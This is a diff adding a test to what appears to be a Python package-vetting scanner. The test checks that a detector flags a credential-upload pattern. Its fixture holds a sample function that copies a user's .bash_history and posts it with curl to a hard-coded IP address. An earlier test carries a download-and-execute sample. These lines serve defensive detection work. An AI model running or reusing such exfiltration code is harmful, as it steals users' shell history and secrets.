@@ -244,3 +244,26 @@ def test_the_co_occurrence_message_is_the_walks() -> None:
     code = "import subprocess, urllib.request\nurllib.request.urlopen(U)\nsubprocess.run(['x'])\n"
     hits = scan_source("b.py", code, data=code.encode()).examples["code.download_exec"]
     assert [h.message for h in hits] == [CO_OCCURRENCE]
+
+
+def test_credential_upload_from_the_features_evidence() -> None:
+    from vetpy.policy import feature_findings, policy_reasons, token_findings
+
+    grab = (
+        b"import os, shutil\n\n\ndef grab(user):\n    hist = '/home/' + user + '/.bash_history'\n"
+        b"    shutil.copyfile(hist, '/tmp/x/h')\n"
+        b"    os.system('curl -k -F \"file=@/tmp/x.zip\" https://198.51.100.7/upload')\n"
+    )
+    features = demo_features({"demo/sync.py": grab})
+    [finding] = feature_findings(features)
+    assert token_findings(features.code_text) == ("credential_upload",)  # what the lab reads from the cache
+    assert (finding.kind, finding.file, finding.line) == ("credential_upload", "demo-1.0/demo/sync.py", 7)
+    assert ".bash_history" in finding.message and "line 5" in finding.message
+    [reason] = policy_reasons((finding,))
+    assert reason.feature == "policy.credential_upload"
+    # the same upload to the address its caller gives: no finding
+    honest = grab.replace(b"def grab(user):", b"def grab(user, url):").replace(
+        b"https://198.51.100.7/upload')", b"' + url)"
+    )
+    features = demo_features({"demo/sync.py": honest})
+    assert feature_findings(features) == () and token_findings(features.code_text) == ()
